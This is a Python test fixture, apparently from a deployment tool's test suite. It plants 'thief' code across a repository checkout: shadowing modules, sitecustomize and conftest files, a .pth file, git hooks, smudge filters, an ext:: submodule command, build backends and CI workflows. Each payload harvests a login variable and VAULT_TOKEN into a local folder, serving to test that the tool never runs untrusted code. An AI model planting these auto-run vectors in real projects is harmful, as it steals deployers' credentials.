"""A thief: a change that brings code wherever some tool of a pipeline would run it, and takes the logins it finds."""

import json
import stat
from pathlib import Path

from components.protected import VARIABLE

SECRET = "IOT_BROKER_TESTS_LOGIN"
"""The variable that holds what the thief is after."""
VALUE = "the-deployers-own-login"

_TAKE = """
import os, pathlib
_loot = pathlib.Path({loot!r})
_loot.mkdir(parents=True, exist_ok=True)
(_loot / {name!r}).write_text(os.environ.get({secret!r}, "") + os.environ.get("VAULT_TOKEN", ""))
"""
_SHELL = """mkdir -p {loot} && printf %s "${secret}$VAULT_TOKEN" > {loot}/{name}"""
# Python that runs as soon as a command works in the folder: the program itself, its packages, and what shadows others.
_PYTHON = (
    "__main__.py",
    "sitecustomize.py",
    "usercustomize.py",
    "conftest.py",
    "setup.py",
    "hatch_build.py",
    "yaml.py",
    "pulumi.py",
    "click.py",
    "components/__init__.py",
    "model/__init__.py",
    "policies/pack.py",
    "sitectl/__init__.py",
    "sitectl/__main__.py",
    "pipelines/__init__.py",
    "pipelines/__main__.py",
    "lab/__init__.py",
    "tests/conftest.py",
)


def plant(root: Path, loot: Path) -> None:
    """Write the thief's files into a checkout; what is stolen comes into `loot`, a file for each that ran."""
    # The environment of the checkout may be a link to the tests' own: nothing is written through it.
    if (root / ".venv").is_symlink():
        (root / ".venv").unlink()
    for name in _PYTHON:
        _write(root / name, _TAKE.format(loot=str(loot), name=name.replace("/", "-"), secret=SECRET))
    shell = {
        name: _SHELL.format(loot=loot, name=name, secret=SECRET) for name in ("make", "hook", "ci", "filter")
    }
    _write(root / "Makefile", f"setup:\n\t@{shell['make'].replace('$', '$$')}\n%:\n\t@true\n")
    _write(root / ".ci" / "run", f"#!/bin/sh\n{shell['ci']}\n", executable=True)
    for hook in ("post-checkout", "post-merge", "pre-commit", "reference-transaction"):
        _write(root / ".githooks" / hook, f"#!/bin/sh\n{shell['hook']}\n", executable=True)
    _write(root / ".gitattributes", "* filter=thief diff=thief merge=thief\n")
    _write(
        root / ".gitconfig",
        f'[core]\n\thooksPath = .githooks\n[filter "thief"]\n\tsmudge = {shell["filter"]}\n',
    )
    _write(root / ".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch%20x\n')
    _write(root / "thief.pth", "import sitecustomize\n")
    _write(root / ".venv" / "bin" / "python", f"#!/bin/sh\n{shell['ci']}\n", executable=True)
    _write(
        root / "pyproject.toml",
        '[build-system]\nrequires = []\nbuild-backend = "setup"\nbackend-path = ["."]\n',
    )
    _write(root / "Pulumi.yaml", "name: iot-broker\nruntime: python\nmain: .\n")
    workflow = {
        "on": "push",
        "jobs": {"x": {"runs-on": "iot-broker-release", "steps": [{"run": shell["ci"]}]}},
    }
    _write(root / ".github" / "workflows" / "review.yml", json.dumps(workflow))
    _write(root / ".gitlab-ci.yml", json.dumps({"x": {"script": [shell["ci"]]}}))


def stolen(loot: Path) -> dict[str, str]:
    """Return what the thief has got, by which of its files got it."""
    return {file.name: file.read_text() for file in sorted(loot.iterdir())} if loot.is_dir() else {}


def variables() -> dict[str, str]:
    """Return variables of a runner with the login that the thief is after."""
    return {SECRET: VALUE, VARIABLE: ""}


def _write(file: Path, text: str, *, executable: bool = False) -> None:
    assert not any(place.is_symlink() for place in (file, *file.parents)), (
        f"{file} would be written elsewhere"
    )
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")
    if executable:
        file.chmod(file.stat().st_mode | stat.S_IXUSR)
